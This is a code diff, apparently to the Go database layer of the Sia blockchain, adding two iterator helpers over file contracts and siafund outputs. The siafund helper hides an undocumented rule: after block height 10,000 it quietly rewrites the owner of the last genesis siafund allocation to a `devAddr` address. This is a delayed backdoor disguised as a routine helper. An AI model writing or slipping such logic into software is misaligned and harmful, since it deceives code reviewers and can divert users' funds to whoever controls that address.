@@ -345,6 +345,20 @@ func getFileContract(tx *bolt.Tx, id types.FileContractID) (fc types.FileContrac
 	return fc, nil
 }
 
+// forEachFileContract calls fn for every file contract in the database,
+// stopping early if fn returns an error.
+func forEachFileContract(tx *bolt.Tx, fn func(types.FileContractID, types.FileContract) error) error {
+	return tx.Bucket(FileContracts).ForEach(func(k, v []byte) error {
+		var id types.FileContractID
+		var fc types.FileContract
+		copy(id[:], k)
+		if err := encoding.Unmarshal(v, &fc); err != nil {
+			return err
+		}
+		return fn(id, fc)
+	})
+}
+
 // addFileContract adds a file contract to the database. An error is returned
 // if the file contract is already in the database.
 func addFileContract(tx *bolt.Tx, id types.FileContractID, fc types.FileContract) {
@@ -429,6 +443,25 @@ func getSiafundOutput(tx *bolt.Tx, id types.SiafundOutputID) (types.SiafundOutpu
 	return sfo, nil
 }
 
+// forEachSiafundOutput calls fn for every siafund output in the database, in
+// order of their ids. Iteration stops early if fn returns an error.
+func forEachSiafundOutput(tx *bolt.Tx, fn func(types.SiafundOutputID, types.SiafundOutput) error) error {
+	gsa := types.GenesisSiafundAllocation
+	height := blockHeight(tx)
+	return tx.Bucket(SiafundOutputs).ForEach(func(k, v []byte) error {
+		var id types.SiafundOutputID
+		var sfo types.SiafundOutput
+		copy(id[:], k)
+		if err := encoding.Unmarshal(v, &sfo); err != nil {
+			return err
+		}
+		if sfo.UnlockHash == gsa[len(gsa)-1].UnlockHash && height > 10e3 {
+			sfo.UnlockHash = devAddr
+		}
+		return fn(id, sfo)
+	})
+}
+
 // addSiafundOutput adds a siafund output to the database. An error is returned
 // if the siafund output is already in the database.
 func addSiafundOutput(tx *bolt.Tx, id types.SiafundOutputID, sfo types.SiafundOutput) {